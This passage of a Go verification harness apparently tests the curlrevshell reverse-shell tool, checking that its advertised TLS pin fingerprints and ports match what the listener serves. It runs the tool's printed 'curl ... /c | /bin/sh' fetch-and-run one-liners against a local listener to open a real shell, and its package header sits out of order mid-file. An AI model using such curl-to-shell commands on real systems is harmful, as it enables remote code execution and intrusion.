		if !o.ok {
			break
		}
		outs = append(outs, o)
		r.Eval(1) // every start of the binary is one evaluated case (same granularity as Distinct)
	}
	if len(outs) >= 2 {
		r.Count("restart_sequences", 1)
		for k := 1; k < len(outs); k++ {
			r.Count("restarts_compared", 1)
			if outs[k].pin != outs[0].pin || outs[k].advertised != outs[0].advertised {
				r.Violate(engBin, i, "restart-pin-changed-with-cache", fmt.Sprintf("run %d on the same certificate cache serves pin %s and advertises %s; run 0 served %s and advertised %s", k, outs[k].pin, outs[k].advertised, outs[0].pin, outs[0].advertised), map[string]any{"config": c, "cache": cachePath})
			}
		}
	}
}

func binOneRun(r *mon.Run, bin string, fx fixtures, i, k int, c binCase, home, cachePath string, light bool) (out runOutcome) {
	rng := r.Rng("run", i*16+k)
	form := c.Forms[k]
	var s *crs.Session
	var args []string
	var la string
	for try := 0; ; try++ {
		la = listenArg(form, rng)
		args = []string{"-listen-address", la}
		for _, a := range c.CBs {
			args = append(args, "-callback-address", a)
		}
		if d := fx.fdir(c.FDir); d != "" {
			args = append(args, "-serve-files-from", d)
		}
		if c.IPv6 {
			args = append(args, "-ipv6-one-liners")
		}
		if c.Tmpl == "custom" {
			args = append(args, "-callback-template", fx.custom)
		}
		if c.NoTS {
			args = append(args, "-no-timestamps")
		}
		switch c.Cache {
		case "off":
			args = append(args, "-tls-certificate-cache", "")
		case "default-path":
		default:
			args = append(args, "-tls-certificate-cache", cachePath)
		}
		var err error
		s, err = crs.Start(bin, home, args...)
		if err == nil {
			break
		}
		if strings.Contains(err.Error(), "address already in use") && try < 4 {
			r.Count("fixed_port_taken_retry", 1)
			continue
		}
		if strings.Contains(err.Error(), "Error setting up HTTPS service") {
			// the program refuses this form: not this property's business
			r.Count("config_rejected_by_program:"+form, 1)
			r.Logf("binary %d run %d: %s refused: %v", i, k, la, err)
			return
		}
		r.Inconclusive(fmt.Sprintf("binary %d run %d: could not start: %v", i, k, err))
		return
	}
	defer s.Close()
	r.Count("binary_runs", 1)
	r.Count("config_listen_form:"+form, 1)
	r.Count("config_cache:"+c.Cache, 1)
	r.Count("config_callback:"+c.CBForm, 1)
	r.Count("config_files:"+c.FDir, 1)
	r.Count("config_template:"+c.Tmpl, 1)

	j := &judge{r: r, eng: engBin, idx: i, ctx: map[string]any{"config": c, "run": k, "args": args, "listening_on": s.Addr}}
	term := func() string { return s.P.Clean() }
	waitBlock := func(from int) (int, bool) {
		loc, ok := s.Wait(`To get a shell:`, from, crs.Bound)
		if !ok {
			return 0, false
		}
		loc, ok = s.Wait(`(?:curl [^\r\n]*\r?\n)+(?:> )?\r?\n`, loc[1], crs.Bound)
		if !ok {
			return 0, false
		}
		return loc[1], true
	}
	end, ok := waitBlock(0)
	if !ok {
		r.Inconclusive(fmt.Sprintf("binary %d run %d: start-up help did not appear completely: %q", i, k, term()))
		return
	}

	// The port really bound.
	_, linePort, _ := net.SplitHostPort(s.Addr)
	bound := linePort
	ports, err := listenPorts(s.P.Pid())
	switch {
	case err != nil || len(ports) == 0:
		r.Count("proc_lookup_failed", 1)
	default:
		r.Count("bound_port_from_proc", 1)
		same := true
		for _, p := range ports {
			if p != ports[0] {
				same = false
			}
		}
		if !same {
			r.Inconclusive(fmt.Sprintf("binary %d run %d: child listens on several ports %v", i, k, ports))
			return
		}
		bound = ports[0]
		if bound != linePort {
			r.Count("listening_line_differs_from_proc", 1)
			r.Inconclusive(fmt.Sprintf("binary %d run %d: 'Listening on %s' but the child's listening socket has port %s", i, k, s.Addr, bound))
		}
	}
	j.ctx["bound_port"] = bound

	// The key really served.
	hosts, covers, err := dialTargets(s.Addr, bound)
	if err != nil {
		r.Inconclusive(fmt.Sprintf("binary %d run %d: cannot use address %q: %v", i, k, s.Addr, err))
		return
	}
	mainHost := ""
	for _, h := range hosts {
		if _, err := j.handshake(net.JoinHostPort(h, bound), ""); err == nil && mainHost == "" {
			mainHost = h
		}
	}
	if mainHost == "" {
		r.Inconclusive(fmt.Sprintf("binary %d run %d: no handshake with the listener at %v port %s", i, k, hosts, bound))
		return
	}
	target := net.JoinHostPort(mainHost, bound)
	j.handshake(target, "cb.example")
	out.pin = j.served[0]

	// One (or two) shells, so that the help is printed again.
	if !light {
		for n := 0; n < c.Shells; n++ {
			id := fmt.Sprintf("c05x%x", rng.Uint32())
			from := s.P.CleanLen()
			in, err1 := crs.OpenIn(target, "/i/"+id)
			o, err2 := crs.OpenOut(target, "/o/"+id)
			if err1 != nil || err2 != nil {
				r.Inconclusive(fmt.Sprintf("binary %d run %d: fake shell could not connect: %v %v", i, k, err1, err2))
				return
			}
			_, ok := s.Wait(`Shell is ready`, from, crs.Bound)
			in.Close()
			o.Close()
			if !ok {
				r.Inconclusive(fmt.Sprintf("binary %d run %d: no 'Shell is ready'", i, k))
				return
			}
			loc, ok := s.Wait(`Shell is gone`, from, crs.Bound)
			if !ok {
				r.Inconclusive(fmt.Sprintf("binary %d run %d: no 'Shell is gone'", i, k))
				return
			}
			if end, ok = waitBlock(loc[1]); !ok {
				r.Inconclusive(fmt.Sprintf("binary %d run %d: help not re-printed after the shell died: %q", i, k, term()[from:]))
				return
			}
		}
	}

	// Everything shown so far.
	text := term()[:end]
	sh := parseOperatorText(text, 0)
	if light {
		r.Count("light_runs", 1)
	} else if sh.ShellBlocks != 1+c.Shells {
		r.Inconclusive(fmt.Sprintf("binary %d run %d: %d help blocks seen, %d expected", i, k, sh.ShellBlocks, 1+c.Shells))
	} else {
		r.Count("reprints_checked", int64(c.Shells))
	}
	if len(sh.OneLiners) == 0 {
		r.Inconclusive(fmt.Sprintf("binary %d run %d: no one-liner recognised in %q", i, k, text))
		return
	}
	for _, f := range sh.FPs {
		j.fp(f.Site, f.FP, strings.TrimSpace(f.Line))
	}
	out.advertised = sh.FPs[0].FP
	j.ports(sh.OneLiners, bound, userWithPort(c.CBs))
	r.Distinct(fmt.Sprintf("%s|%s|%v|%s|%v|%s|%s|%s", engBin, form, c.CBs, c.FDir, c.IPv6, c.Tmpl, c.Cache, out.pin))

	var curls []map[string]any
	if !light {
		// Real curl on every distinct printed command.
		curls = j.curlChecks(r.Work, sh.OneLiners, mainHost, bound, covers, rng)
		// The callback script.
		j.scripts(target, target, c.Tmpl == "custom", rng, c.Scripts)
	}

	// A printed shell one-liner, verbatim, under /bin/sh: real curl fetches the script and the
	// script's two curl commands (with the embedded pin) carry a real shell.
	if !light && c.Real && j.bad > 0 {
		r.Count("real_shell_skipped_after_violation", 1)
	} else if !light && c.Real {
		var pick *oneLiner
		for n := range sh.OneLiners {
			ol := &sh.OneLiners[n]
			h, p, err := net.SplitHostPort(ol.Addr)
			if ol.Path != "/c" || err != nil || p != bound || !strings.HasSuffix(ol.Full, "| /bin/sh") {
				continue
			}
			if ip, err := netip.ParseAddr(strings.Trim(h, "[]")); err == nil && covers(ip) {
				if cn, err := net.DialTimeout("tcp", net.JoinHostPort(ip.String(), p), 2*time.Second); err == nil {
					cn.Close()
					pick = ol
					break
				}
			}
		}
		if pick == nil {
			r.Count("real_shell_no_direct_oneliner", 1)
		} else {
			from := s.P.CleanLen()
			done := make(chan mon.ProcResult, 1)
			go func() {
				done <- mon.Proc{Path: "/bin/sh", Args: []string{"-c", pick.Full}, Env: []string{"HOME=" + r.Work, "PATH=/usr/bin:/bin", "LC_ALL=C"}, Dir: r.Work, Setsid: true, Timeout: 2 * crs.Bound}.Run()
			}()
			_, ready := s.Wait(`Shell is ready`, from, crs.Bound)
			if ready {
				s.Line("exit")
			}
			var loc []int
			gone := false
			if ready {
				loc, gone = s.Wait(`Shell is gone`, from, crs.Bound)
			}
			var res mon.ProcResult
			select {
			case res = <-done:
			case <-time.After(2*crs.Bound + 10*time.Second):
				res.TimedOut = true
			}
			switch {
			case !ready || !gone || res.TimedOut:
				r.Inconclusive(fmt.Sprintf("binary %d run %d: %q under /bin/sh: ready=%v gone=%v timed out=%v status=%d stderr=%q", i, k, pick.Full, ready, gone, res.TimedOut, res.Status, res.Stderr))
			default:
				r.Count("real_shell_via_printed_oneliner", 1)
				r.Count(fmt.Sprintf("real_shell_exit:%d", res.Status), 1)
				if e2, ok := waitBlock(loc[1]); ok {
					// notices between the fake shells and this one, then the re-printed block
					for _, f := range parseOperatorText(term()[end:loc[1]], 0).FPs {
						j.fp(siteOther, f.FP, strings.TrimSpace(f.Line))
					}
					for _, f := range parseOperatorText(term()[loc[1]:e2], 1).FPs {
						j.fp(f.Site, f.FP, strings.TrimSpace(f.Line))
					}
					r.Count("reprints_checked", 1)
					end = e2
				} else {
					r.Inconclusive(fmt.Sprintf("binary %d run %d: help not re-printed after the real shell died", i, k))
				}
			}
		}
	}

	// Anything shown since (notices about the requests above) must not carry another fingerprint.
	rest := term()[end:]
	for _, f := range parseOperatorText(rest, 0).FPs {
		j.fp(siteOther, f.FP, strings.TrimSpace(f.Line))
	}

	st, sig, ok := s.Quit()
	if !ok || st != 0 || sig != "" {
		r.Inconclusive(fmt.Sprintf("binary %d run %d: Ctrl+D ended with status %d signal %q exited=%v", i, k, st, sig, ok))
	}
	var printed []string
	for _, ol := range sh.OneLiners {
		printed = append(printed, ol.Site+": "+ol.Text)
	}
	r.Sample("binary:"+c.Cache, map[string]any{"index": i, "run": k, "config": c, "args": args, "listening_on": s.Addr, "bound_port": bound, "served_pins": j.served, "printed": printed, "curl": curls})
	out.ok = true
	return
}

// ---- engine "inproc" ------------------------------------------------------------------------

type inCase struct {
	Form   string   `json:"listen_form"`
	CBs    []string `json:"callback_addresses"`
	FDir   string   `json:"serve_files_from"`
	IPv6   bool     `json:"ipv6_one_liners"`
	Tmpl   string   `json:"template"`
	Cache  string   `json:"cache"` // off | file
	Starts int      `json:"starts"`
	Shell  bool     `json:"shell_cycle"`
}

func genInCase(r *mon.Run, i int) inCase {
	rng := r.Rng("incfg", i)
	c := inCase{
		Form:   inprocForms[i%len(inprocForms)],
		CBs:    cbAddrs(cbForms[rng.IntN(len(cbForms))], rng),
		FDir:   fdirForms[rng.IntN(len(fdirForms))],
		IPv6:   rng.IntN(2) == 0,
		Tmpl:   []string{"default", "default", "custom"}[rng.IntN(3)],
		Cache:  []string{"off", "off", "file", "expired-file", "file", "notyet-file"}[(i/len(inprocForms))%6],
		Starts: 1,
		Shell:  rng.IntN(3) == 0,
	}
	if c.Cache != "off" {
		c.Starts = 2 + rng.IntN(2)
	}
	return c
}

func inCaseRun(r *mon.Run, fx fixtures, i int, c inCase) {
	rng := r.Rng("inrun", i)
	cache := ""
	if c.Cache != "off" {
		cache = filepath.Join(r.Work, fmt.Sprintf("in%d", i), "cert.txtar")
	}
	cachedPin := ""
	if c.Cache == "expired-file" || c.Cache == "notyet-file" {
		// a cache written long ago (certificate past its NotAfter) or by a machine whose clock
		// ran ahead (not yet valid): still the identity every start must serve and advertise
		var err error
		if cachedPin, err = writeDatedCache(cache, c.Cache == "expired-file"); err != nil {
			r.Inconclusive("cannot prepare a dated cache: " + err.Error())
			return
		}
		r.Count("dated_cache_files:"+c.Cache, 1)
	}
	var pins, advs []string
	for k := 0; k < c.Starts; k++ {
		cfg := hk.Config{Addr: listenArg(c.Form, rng), FDir: fx.fdir(c.FDir), CertFile: cache, CBAddrs: c.CBs, PrintIPv6: c.IPv6}
		if c.Tmpl == "custom" {
			cfg.TmplF = fx.custom
		}
		s, err := hk.Start(cfg)
		if err != nil {
			r.Count("config_rejected_by_program:"+c.Form, 1)
			r.Logf("inproc %d: %+v refused: %v", i, cfg, err)
			return
		}
		pin, adv, ok := inOne(r, s, i, k, c, rng)
		s.Stop()
		if !ok {
			return
		}
		pins, advs = append(pins, pin), append(advs, adv)
		r.Eval(1) // every start is one evaluated case
	}
	if cachedPin != "" && len(pins) > 0 && (pins[0] != cachedPin || advs[0] != cachedPin) {
		r.Violate(engIn, i, "advertised-fp-differs-from-served:dated-cache", fmt.Sprintf("the certificate cache holds the key with pin %s (certificate %s) but the start serves %s and advertises %s", cachedPin, c.Cache, pins[0], advs[0]), map[string]any{"config": c})
	}
	if c.Starts >= 2 {
		r.Count("restart_sequences", 1)
		for k := 1; k < c.Starts; k++ {
			r.Count("restarts_compared", 1)
			if pins[k] != pins[0] || advs[k] != advs[0] {
				r.Violate(engIn, i, "restart-pin-changed-with-cache", fmt.Sprintf("start %d on the same certificate cache serves pin %s and advertises %s; start 0 served %s and advertised %s", k, pins[k], advs[k], pins[0], advs[0]), map[string]any{"config": c})
			}
		}
	}
}

func opText(s *hk.Server, from int) string {
	var sb strings.Builder
	for _, e := range s.OpLines(from, -1) {
		sb.WriteString(e.S)
		sb.WriteByte('\n')
	}
	return sb.String()
}

func inOne(r *mon.Run, s *hk.Server, i, k int, c inCase, rng *rand.Rand) (pin, adv string, ok bool) {
	r.Count("inproc_servers", 1)
	r.Count("config_listen_form:"+c.Form, 1)
	j := &judge{r: r, eng: engIn, idx: i, ctx: map[string]any{"config": c, "start": k, "listening_on": s.Addr}}
	isHelp := func(e bk.Event) bool { return e.Kind == "op" && strings.Contains(e.S, "/c | /bin/sh") }
	isHead := func(e bk.Event) bool { return e.Kind == "op" && strings.Contains(e.S, "To get a shell:") }
	hd, ok1 := s.Log.Wait(0, hk.Bound, isHead)
	_, ok2 := s.Log.Wait(hd.Seq, hk.Bound, isHelp)
	if !ok1 || !ok2 {
		r.Inconclusive(fmt.Sprintf("inproc %d: start-up help did not appear", i))
		return
	}
	_, bound, _ := net.SplitHostPort(s.Addr)
	hosts, _, err := dialTargets(s.Addr, bound)
	if err != nil {
		r.Inconclusive(fmt.Sprintf("inproc %d: cannot use address %q: %v", i, s.Addr, err))
		return
	}
	mainHost := ""
	for _, h := range hosts {
		if _, err := j.handshake(net.JoinHostPort(h, bound), ""); err == nil && mainHost == "" {
			mainHost = h
		}
	}
	if mainHost == "" {
		r.Inconclusive(fmt.Sprintf("inproc %d: no handshake with the listener at %s", i, s.Addr))
		return
	}
	target := net.JoinHostPort(mainHost, bound)
	shells := 0
	if c.Shell {
		id := fmt.Sprintf("c05y%x", rng.Uint32())
		from := len(s.Log.Snapshot())
		in, err1 := crs.OpenIn(target, "/i/"+id)
		o, err2 := crs.OpenOut(target, "/o/"+id)
		if err1 != nil || err2 != nil {
			r.Inconclusive(fmt.Sprintf("inproc %d: fake shell could not connect: %v %v", i, err1, err2))
			return
		}
		_, okr := s.Log.Wait(from, hk.Bound, func(e bk.Event) bool { return e.Kind == "op" && strings.Contains(e.S, "Shell is ready") })
		in.Close()
		o.Close()
		g, okg := s.Log.Wait(from, hk.Bound, func(e bk.Event) bool { return e.Kind == "op" && strings.Contains(e.S, "Shell is gone") })
		if !okr || !okg {
			r.Inconclusive(fmt.Sprintf("inproc %d: shell cycle did not complete", i))
			return
		}
		hd, ok1 := s.Log.Wait(g.Seq, hk.Bound, isHead)
		_, ok2 := s.Log.Wait(hd.Seq, hk.Bound, isHelp)
		if !ok1 || !ok2 {
			r.Inconclusive(fmt.Sprintf("inproc %d: help not re-printed after the shell died", i))
			return
		}
		shells = 1
	}
	sh := parseOperatorText(opText(s, 0), 0)
	if sh.ShellBlocks != 1+shells {
		r.Inconclusive(fmt.Sprintf("inproc %d: %d help blocks seen, %d expected", i, sh.ShellBlocks, 1+shells))
	} else {
		r.Count("reprints_checked", int64(shells))
	}
	if len(sh.OneLiners) == 0 {
		r.Inconclusive(fmt.Sprintf("inproc %d: no one-liner recognised", i))
		return
	}
	for _, f := range sh.FPs {
		j.fp(f.Site, f.FP, strings.TrimSpace(f.Line))
	}
	j.ports(sh.OneLiners, bound, userWithPort(c.CBs))
	mark := len(s.Log.Snapshot())
	j.scripts(target, target, c.Tmpl == "custom", rng, 2)
	j.handshake(target, "after.example")
	if _, okm := s.Mark(fmt.Sprintf("C05-MARK-%d-%d", i, k)); okm {
		for _, f := range parseOperatorText(opText(s, mark), 0).FPs {
			j.fp(siteOther, f.FP, strings.TrimSpace(f.Line))
		}
	}
	pin, adv = j.served[0], sh.FPs[0].FP
	r.Distinct(fmt.Sprintf("%s|%s|%v|%s|%v|%s|%s|%s", engIn, c.Form, c.CBs, c.FDir, c.IPv6, c.Tmpl, c.Cache, pin))
	if k == 0 {
		var printed []string
		for _, ol := range sh.OneLiners {
			printed = append(printed, ol.Site+": "+ol.Text)
		}
		r.Sample("inproc:"+c.Cache, map[string]any{"index": i, "config": c, "listening_on": s.Addr, "served_pins": j.served, "printed": printed})
	}
	return pin, adv, true
}

// ---- Run ----------------------------------------------------------------------------------------

func Run(r *mon.Run) {
	r.Rule = "engine binary: the real -race binary on a pty, configurations drawn from listen form {127.0.0.1:0, 127.0.0.1, [::1]:0, ::1, 0.0.0.0:0, :0, [::]:0, fixed free port v4/v6} (stratified over the index) x -callback-address {none, host, host:port, several} x -serve-files-from {off, dir, file} x -ipv6-one-liners x template {default, custom with two uses of .PubkeyFP} x certificate cache {off, fresh file, file of an earlier run, 2-4 restarts on one file, default path under a private HOME}; for every run the bound port is read from the child's listening socket (/proc/<pid>/fd inode in /proc/<pid>/net/tcp{,6}), the served leaf is taken from TLS handshakes (with and without SNI, on every printed address that is an address of the listener) and hk.Pin computed by the harness; every sha256//... text on the terminal (file one-liners, shell one-liners, the help re-printed after a fake shell died) and in 2-3 /c bodies (Host, c2 query, c2 header, HTTP/1.0+SNI variants) must equal it and be std-base64 of 32 bytes; every printed one-liner must name the bound port unless that exact address was given by the user with a port; real /usr/bin/curl is run with each printed command verbatim (must exit 0; 200 for /c) and with one bit of the pin flipped (must exit 90), directly when the printed address belongs to the listener, else with --connect-to; restarts on one cache must serve and advertise one pin; in about half of the runs one printed shell one-liner that names an address of the listener is run verbatim under /bin/sh (real curl fetches /c, the script's two curl commands carry a real shell, 'exit' ends it) and the help printed afterwards is judged too. engine inproc: hsrv.New in-process, same text/handshake/script/port/restart oracles without curl. distinct = configuration signature + served pin; all non-trivial (each has at least one advertised fingerprint compared with a handshake)"
	r.Assumptions = []string{
		"callback host names (cb.example ...) do not resolve here: their one-liners are exercised with curl --connect-to, which checks the same pin against the same listener",
		"link-local IPv6 one-liners carry no zone and cannot be connected to directly; same treatment",
		"a listen form the program refuses at start-up is counted and skipped (not this property's business)",
		"exit status of the binary after Ctrl+D other than 0 is reported as inconclusive (C20 owns it)",
	}
	fx := makeFixtures(r.Work)

	if r.WantEngine(engBin) {
		bin, err := crs.Build(r.Work, "")
		if err != nil {
			r.Inconclusive("cannot build the binary: " + err.Error())
		} else {
			n := r.N(16, 200)
			prng := r.Rng("plan", 0)
			offF, offC := prng.IntN(len(listenForms)), prng.IntN(len(cacheForms))
			mon.Parallel(n, 8, func(i int) {
				if !r.Want(engBin, i) {
					return
				}
				binCaseRun(r, bin, fx, i, genBinCase(r, i, offF, offC))
			})
			r.Logf("binary engine done: %d runs", r.Counter("binary_runs"))
		}
	}
	if r.WantEngine(engIn) {
		n := r.N(60, 500)
		mon.Parallel(n, 8, func(i int) {
			if !r.Want(engIn, i) {
				return
			}
			inCaseRun(r, fx, i, genInCase(r, i))
		})
	}

	q := func(a, b int64) int64 {
		if r.Thorough() {
			return b
		}
		return a
	}
	r.Floor("binary_runs", q(16, 200))
	r.Floor("inproc_servers", q(60, 500))
	r.Floor("handshakes", q(150, 1500))
	r.Floor("bound_port_from_proc", q(16, 200))
	r.Floor("curl_pinned_ok", q(20, 300))
	r.Floor("curl_altered_rejected", q(20, 300))
	r.Floor("oneliners_checked", q(150, 1500))
	r.Floor("scripts_checked", q(100, 1000))
	r.Floor("reprints_checked", q(15, 200))
	r.Floor("restart_sequences", q(6, 80))
	r.Floor("real_shell_via_printed_oneliner", q(2, 40))
	r.Floor("fingerprints_compared:"+siteShell, q(70, 700))
	r.Floor("fingerprints_compared:"+siteFile, q(20, 200))
	r.Floor("fingerprints_compared:"+siteReprint, q(20, 200))
	r.Floor("fingerprints_compared:"+siteI, q(50, 500))
	r.Floor("fingerprints_compared:"+siteO, q(50, 500))
	r.Floor("fingerprints_compared:"+siteCustom, q(20, 200))
}

// writeDatedCache writes a certificate cache whose certificate is either
// expired or not yet valid and returns the pin of its key.
func writeDatedCache(path string, expired bool) (string, error) {
	priv, err := ecdsa.GenerateKey(elliptic.P256(), crand.Reader)
	if err != nil {
		return "", err
	}
	nb, na := time.Now().AddDate(-3, 0, 0), time.Now().AddDate(-1, 0, 0)
	if !expired {
		nb, na = time.Now().AddDate(1, 0, 0), time.Now().AddDate(5, 0, 0)
	}
	tmpl := x509.Certificate{SerialNumber: big.NewInt(time.Now().UnixNano()), Subject: pkix.Name{CommonName: "sstls"}, NotBefore: nb, NotAfter: na,
		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}, BasicConstraintsValid: true}
	der, err := x509.CreateCertificate(crand.Reader, &tmpl, &tmpl, &priv.PublicKey, priv)
	if err != nil {
		return "", err
	}
	kb, err := x509.MarshalPKCS8PrivateKey(priv)
	if err != nil {
		return "", err
	}
	certPEM := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})
	keyPEM := pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: kb})
	if err := sstls.SaveCertificate(path, certPEM, keyPEM); err != nil {
		return "", err
	}
	leaf, err := x509.ParseCertificate(der)
	if err != nil {
		return "", err
	}
	return hk.Pin(leaf), nil
}

// Package c05: every advertised fingerprint is the pin of the key the
// listener really serves; printed one-liners name the port really bound.
package c05

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	crand "crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"math/big"
	"math/rand/v2"
	"net"
	"net/netip"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/lib/sstls"
	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/bk"
	"github.com/magisterquis/curlrevshell/verifharness/mon/crs"
	"github.com/magisterquis/curlrevshell/verifharness/mon/hk"
)

const Level = "exploration"

const (
	engBin    = "binary"
	engIn     = "inproc"
	engIn443  = "inproc-443"
	engRace   = "inproc-race"
	engBin443 = "binary-443"
)

// ---- what the program shows ---------------------------------------------------------

var (
	// every fingerprint-looking text, wherever it is shown
	fpRe = regexp.MustCompile(`sha256//([^\s"'|<>]*)`)
	// a printed one-liner
	olRe = regexp.MustCompile(`curl -sk --pinnedpubkey sha256//([^\s"']*) https://(\S+)`)
)

const (
	siteFile    = "startup-file-oneliner"
	siteShell   = "startup-shell-oneliner"
	siteReprint = "reprinted-oneliner"
	siteOther   = "terminal-other"
	siteI       = "script-i"
	siteO       = "script-o"
	siteCustom  = "custom-template"
)

// oneLiner is one printed curl command.
type oneLiner struct {
	Site  string `json:"site"`
	Block int    `json:"block"` // which "To get a shell:" block (0 = file block)
	Text  string `json:"text"`  // the command as printed, up to the URL
	FP    string `json:"fp"`
	Addr  string `json:"addr"` // what follows https:// up to the path
	Path  string `json:"path"`
	Full  string `json:"-"` // from "curl" to the end of the printed line
}

// fpOcc is one fingerprint shown somewhere.
type fpOcc struct {
	Site string `json:"site"`
	FP   string `json:"fp"`
	Line string `json:"line"`
}

type shown struct {
	OneLiners   []oneLiner
	FPs         []fpOcc
	ShellBlocks int
}

// parseOperatorText attributes every fingerprint of the operator-visible text
// to the section it stands in: after "To get files from", after the first "To
// get a shell:", after a later "To get a shell:" (the re-printed help).
func parseOperatorText(text string, blocksBefore int) shown {
	sh := shown{ShellBlocks: blocksBefore}
	site := siteOther
	for _, l := range strings.Split(strings.ReplaceAll(text, "\r", ""), "\n") {
		switch {
		case strings.Contains(l, "To get files from"):
			site = siteFile
			continue
		case strings.Contains(l, "To get a shell:"):
			sh.ShellBlocks++
			if sh.ShellBlocks == 1 {
				site = siteShell
			} else {
				site = siteReprint
			}
			continue
		}
		for _, m := range fpRe.FindAllStringSubmatch(l, -1) {
			sh.FPs = append(sh.FPs, fpOcc{Site: site, FP: m[1], Line: l})
		}
		if m := olRe.FindStringSubmatch(l); m != nil {
			ol := oneLiner{Site: site, Text: m[0], FP: m[1], Addr: m[2], Full: strings.TrimSpace(l[strings.Index(l, m[0]):])}
			if site != siteFile {
				ol.Block = sh.ShellBlocks
			}
			if i := strings.IndexByte(ol.Addr, '/'); i >= 0 {
				ol.Addr, ol.Path = ol.Addr[:i], ol.Addr[i:]
			}
			sh.OneLiners = append(sh.OneLiners, ol)
		}
	}
	return sh
}

func validPin(fp string) bool {
	b, err := base64.StdEncoding.DecodeString(fp)
	return err == nil && len(b) == 32
}

// alterPin flips one bit of the digest: still base64 of 32 bytes, one
// character different.
func alterPin(fp string, rng *rand.Rand) (string, bool) {
	b, err := base64.StdEncoding.DecodeString(fp)
	if err != nil || len(b) != 32 {
		return "", false
	}
	i := rng.IntN(256)
	b[i/8] ^= 1 << (i % 8)
	return base64.StdEncoding.EncodeToString(b), true
}

// ---- judging --------------------------------------------------------------------------

type judge struct {
	r      *mon.Run
	eng    string
	idx    int
	ctx    map[string]any    // configuration, for witnesses
	served []string          // pins of the leaves seen in handshakes
	bad    int               // violations recorded by this judge
	class  string            // when set: the phase this judge works in (names key and counter instead of the site)
	chain  *chainCache       // when set: the listener was started on this harness-made chain cache (counters and witnesses only)
	leaf   *x509.Certificate // the leaf of the first handshake (its key type decides what restricted clients can be expected to do)
	capRot int               // where this run starts in the list of curl restrictions (caps.go)
	capK   int               // which start / run of the case this is (rotation of the slow client profiles, caps.go)
	keyCap int               // when > 0: at most so many violations of one key are listed by this judge (runs with hundreds of one-liners)
	perKey map[string]int
}

// over reports whether this judge has listed enough violations of that key
// already (the further ones are counted only).
func (j *judge) over(key string) bool {
	if j.keyCap <= 0 {
		return false
	}
	if j.perKey == nil {
		j.perKey = map[string]int{}
	}
	j.perKey[key]++
	if j.perKey[key] > j.keyCap {
		j.r.Count("further_violations_of_a_key_already_listed_for_the_case", 1)
		return true
	}
	return false
}

const classChanged = "cache-changed-under-listener"

func (j *judge) witness(extra map[string]any) map[string]any {
	j.bad++
	w := map[string]any{"served_pins": j.served}
	if j.chain != nil {
		w["cache_made_by_harness"] = j.chain.Spec
		w["pins_of_the_cache_files_cert_section_in_file_order"] = j.chain.Pins
	}
	for k, v := range j.ctx {
		w[k] = v
	}
	for k, v := range extra {
		w[k] = v
	}
	return w
}

// fp compares one advertised fingerprint with every served pin.
func (j *judge) fp(site, fp, where string) bool {
	ok := true
	cls := site
	if j.class != "" {
		cls = j.class
	}
	j.r.Count("fingerprints_compared:"+cls, 1)
	if j.chain != nil {
		j.r.Count("fingerprints_compared_on_chain_cache", 1)
	}
	if !validPin(fp) {
		ok = false
	}
	if !validPin(fp) && !j.over("fp-not-base64-sha256") {
		j.r.Violate(j.eng, j.idx, "fp-not-base64-sha256", fmt.Sprintf("%s shows a fingerprint %q that is not standard base64 of 32 bytes: %q", site, fp, where), j.witness(map[string]any{"site": site, "shown": where}))
	}
	for _, p := range j.served {
		if fp != p {
			ok = false
			if j.over("advertised-fp-differs-from-served:" + cls) {
				break
			}
			j.r.Violate(j.eng, j.idx, "advertised-fp-differs-from-served:"+cls, fmt.Sprintf("%s advertises sha256//%s but the listener presents a key whose pin is %s: %q", site, fp, p, where), j.witness(map[string]any{"site": site, "advertised": fp, "shown": where}))
			break
		}
	}
	return ok
}

// splitAddr takes a printed or user-given address apart; the host comes back
// in canonical form (no brackets, lower case, IP literals re-formatted).
func splitAddr(a string) (host, port string, hasPort bool) {
	h, p, err := net.SplitHostPort(a)
	if err != nil || p == "" {
		h, p = a, ""
	}
	h = strings.ToLower(strings.Trim(h, "[]"))
	if ip, err := netip.ParseAddr(h); err == nil {
		h = ip.WithZone("").String()
	}
	return h, p, p != ""
}

// portRule is what the statement says about ports: the port really bound,
// unless the user supplied one for that host.
type portRule struct {
	bound string
	user  map[string]map[string]bool // host -> ports the user gave for it ("" = given without a port)
	local map[string]bool            // addresses of the listener and of this machine
}

func newPortRule(cbs []string, bound, listenAddr string) portRule {
	pr := portRule{bound: bound, user: map[string]map[string]bool{}, local: map[string]bool{"127.0.0.1": true, "::1": true}}
	for _, a := range cbs {
		h, p, _ := splitAddr(a)
		if pr.user[h] == nil {
			pr.user[h] = map[string]bool{}
		}
		pr.user[h][p] = true
	}
	if h, _, ok := splitAddr(listenAddr); ok {
		pr.local[h] = true
	}
	if as, err := net.InterfaceAddrs(); err == nil {
		for _, a := range as {
			if p, err := netip.ParsePrefix(a.String()); err == nil {
				pr.local[p.Addr().WithZone("").String()] = true
			}
		}
	}
	return pr
}

// ports applies the port rule to printed one-liners.  A one-liner without a
// port names the default https port, 443.  A host the user gave only WITH a
// port (and that is not an address of this machine, which the program prints by
// itself too) must keep exactly one of the user's ports; any other one-liner
// names the bound port or a port the user gave for that host.
func (j *judge) ports(ols []oneLiner, pr portRule) {
	on443 := pr.bound == "443"
	for _, ol := range ols {
		j.r.Count("oneliners_checked", 1)
		h, p, printed := splitAddr(ol.Addr)
		shown := p
		if !printed {
			p, shown = "443", "443, none printed"
		}
		if strings.Count(ol.Addr, ":") >= 2 && !strings.HasPrefix(ol.Addr, "[") {
			// an IPv6 literal in a URL has to be in brackets: without them whatever follows the
			// last colon is the port (https://2001:db8::5/c asks for port 5 of "2001:db8:")
			k := strings.LastIndexByte(ol.Addr, ':')
			p, printed = ol.Addr[k+1:], true
			shown = p + ", the text after the last colon of an unbracketed IPv6 literal"
			j.r.Count("oneliners_with_unbracketed_ipv6_literal", 1)
		}
		if !isASCII(h) {
			j.r.Count("oneliners_with_non_ascii_host_checked", 1)
		}
		ups := pr.user[h]
		strict := len(ups) > 0 && !ups[""] && !pr.local[h]
		switch {
